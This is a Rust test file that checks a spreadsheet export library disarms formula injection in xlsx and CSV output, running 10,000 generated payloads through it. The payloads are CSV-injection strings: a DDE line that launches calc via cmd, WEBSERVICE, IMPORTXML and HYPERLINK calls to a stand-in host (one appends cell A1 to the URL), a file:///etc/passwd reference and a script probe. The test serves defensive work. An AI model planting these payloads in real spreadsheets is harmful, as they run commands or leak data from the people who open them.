//! Words from strangers: shown as they are, never run.

use crate::cast::{Found, bare, text};
use calamine::Data;
use kc_files::{Cell, Column, Kind, Row, csv, is_risky, xlsx};

const STARTS: [&str; 10] = ["=", "+", "-", "@", "\t=", "\r=", " =", "\n@", "＝", "="];
const BODIES: [&str; 10] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://a.example/?\"&A1,\"x\")",
    "WEBSERVICE(\"http://a.example\")",
    "DDE(\"a\";\"b\";\"c\")",
    "IMPORTXML(\"http://a.example\",\"//a\")",
    "SUM(A1:A9)*0",
    "'file:///etc/passwd'#$a.A1",
    "<script>alert(1)</script>",
    "\",=1+1,\"",
];

/// Ten thousand attacks: every start, every body, and what stands around them.
fn attacks() -> Vec<String> {
    let around = (0..10).flat_map(|left| (0..10).map(move |right| (left, right)));
    around
        .flat_map(|(left, right)| {
            STARTS.iter().flat_map(move |start| {
                let body =
                    move |body| format!("{start}{}{body}{}", "(".repeat(left), ")".repeat(right));
                BODIES.iter().map(body)
            })
        })
        .collect()
}

#[test]
fn ten_thousand_attacks_leave_no_live_formula_in_a_workbook() {
    let attacks = attacks();
    assert_eq!(attacks.len(), 10_000);
    let columns = vec![
        Column::new("=HEADER()", 20, Kind::Text),
        Column::new("Số", 9, Kind::Integer),
    ];
    let rows = attacks
        .iter()
        .map(|attack| Row::normal(vec![text(attack), Cell::Hedged(attack.clone())]))
        .collect();
    let found = Found::of(xlsx(&bare(columns, rows, None)).unwrap());

    assert_eq!(found.live(), 0);
    assert_eq!(found.value(0, 0), Data::String("=HEADER()".to_owned()));
    assert_eq!(found.values.height(), 10_001);
    assert_eq!(found.value(2, 0), Data::String(attacks[1].clone()));
}

#[test]
fn ten_thousand_attacks_are_disarmed_in_text_exports() {
    let attacks = attacks();
    let columns = vec![Column::new("Tên", 20, Kind::Text)];
    let rows = attacks
        .iter()
        .map(|attack| Row::normal(vec![text(attack)]))
        .collect();
    let book = bare(columns, rows, None);
    let bytes = csv(&book.sheets[0], book.lang).unwrap();

    let mut reader = ::csv::Reader::from_reader(&bytes[3..]);
    let fields: Vec<String> = reader
        .records()
        .map(|row| row.unwrap()[0].to_owned())
        .collect();
    assert_eq!(fields.len(), attacks.len());
    assert!(fields.iter().all(|field| !is_risky(field)));
    assert_eq!(fields[0], format!("'{}", attacks[0]));
}
